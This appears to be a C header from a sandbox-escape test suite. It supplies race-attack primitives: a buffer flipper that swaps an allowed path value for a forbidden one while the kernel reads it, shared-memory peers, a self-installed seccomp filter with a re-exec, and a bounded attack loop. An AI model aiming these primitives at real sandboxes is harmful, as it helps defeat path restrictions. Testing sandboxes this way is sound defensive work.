/* race.h: the moving parts of the race attacks -- a flipper that rewrites a buffer between
 * an allowed value and a forbidden one as fast as it can, run by a sibling thread, a CLONE_VM
 * peer, or a forked process sharing the page -- and the bounded attack loop. */
#ifndef ESCAPE_RACE_H
#define ESCAPE_RACE_H

#include "attack.h"

#include <pthread.h>
#include <sched.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/prctl.h>

/* ESC_OWN_FILTER=1: a seccomp filter of the program's own, answering ENOSYS to openat2 as
 * sandboxes do (red team 13: held opens then keep their own call, run with the tree frozen --
 * which must hold against the race as openat2's RESOLVE_NO_SYMLINKS does).  prctl's way in:
 * seccomp()'s is own_filter_held.c's.  ESC_OWN_FILTER=exec: the filter installed, the program
 * execs itself (ESC_OWN_FILTER=after: the filter came along) and the new image races -- its
 * scratch area is mapped with its filters suspended, or, by a tracer that may not suspend
 * them, not at all: its held opens then run in place, with the tree frozen and re-checked. */
static inline void own_filter(char **argv) {
    const char *how = getenv("ESC_OWN_FILTER");
    if (!strcmp(how, "after"))
        return;
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat2, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog))
        skipped("a filter of its own: %s", ename(errno));
    if (!strcmp(how, "exec")) {
        setenv("ESC_OWN_FILTER", "after", 1);
        execv("/proc/self/exe", argv);
        skipped("exec: %s", ename(errno));
    }
}

struct flip {
    char *buf;                /* what the attacker passes to the kernel */
    size_t len;
    const char *a, *b;        /* the allowed and the forbidden value, both len bytes */
    volatile int *stop;
    volatile long flips;
};

static inline void flip_loop(struct flip *f) {
    while (!*f->stop) {
        memcpy(f->buf, f->a, f->len);
        __asm__ volatile("" ::: "memory"); /* both stores happen */
        memcpy(f->buf, f->b, f->len);
        __asm__ volatile("" ::: "memory");
        f->flips++;
    }
}

static inline void *flip_thread(void *arg) {
    flip_loop(arg);
    return NULL;
}

static inline int flip_clone_fn(void *arg) {
    flip_loop(arg);
    return 0;
}

/* Memory both parties of a race can write: MAP_SHARED anonymous, or a memfd mapped twice. */
static inline void *shared_page(size_t size, int use_memfd) {
    if (!use_memfd)
        return mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    int fd = memfd_create("race", 0);
    if (fd < 0 || ftruncate(fd, size) < 0)
        return MAP_FAILED;
    void *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    close(fd);
    return p;
}

/* Wait (at most a second) until a peer's counter moves: the race starts with both running. */
static inline void wait_for_peer(volatile long *counter) {
    double until = now_s() + 1.0;
    while (*counter == 0 && now_s() < until)
        sched_yield();
}

/* Bounded: at most `iterations` tries, at most `seconds` long. */
struct budget {
    long iterations;
    double seconds;
    double start;
    long done;
};

static inline int budget_left(struct budget *b) {
    if (b->done == 0)
        b->start = now_s();
    return b->done++ < b->iterations && now_s() - b->start < b->seconds;
}

static inline void budget_args(struct budget *b, int argc, char **argv, int at) {
    b->iterations = argc > at ? atol(argv[at]) : 3000;
    b->seconds = argc > at + 1 ? atof(argv[at + 1]) : 3.0;
    b->done = 0;
    b->start = now_s();
}

#endif
